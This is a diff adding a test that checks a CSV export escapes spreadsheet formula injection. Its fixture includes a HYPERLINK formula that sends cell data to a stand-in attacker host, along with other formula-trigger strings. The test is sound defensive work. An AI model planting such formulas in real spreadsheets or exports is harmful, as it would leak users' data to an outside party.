@@ -565,3 +565,23 @@ def test_an_erasure_from_the_public_page_leaves_nothing_readable(
                               "privacy.subject": 1}
     assert USER not in json.dumps(receipt.counts) + receipt.subject_ref
     assert "erasure request is complete" in mail.outbox[-1].body
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula():
+    import csv
+    import io
+
+    document = {"conversations": [{"prompt": '=HYPERLINK("https://attacker.example/?"&A1,"x")',
+                                   "response": "+1 and -1 and @SUM(A1)", "note": " =1+1",
+                                   "tokens": -3, "plain": "hello = world"}],
+                "@section": {"-field": "\tcmd"}}
+    rows = list(csv.reader(io.StringIO(requests.export_csv(document))))
+    cells = [cell for row in rows[1:] for cell in row]
+
+    for cell in cells:
+        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t")), cell
+    values = {row[1]: row[2] for row in rows[1:]}
+    assert values["[0].prompt"] == "'" + document["conversations"][0]["prompt"]
+    assert values["[0].plain"] == "hello = world"  # text that is no formula is kept as it is
+    assert values["[0].tokens"] == "-3"  # a number stays a number
+    assert ["'@section", "'-field", "'\tcmd"] in rows
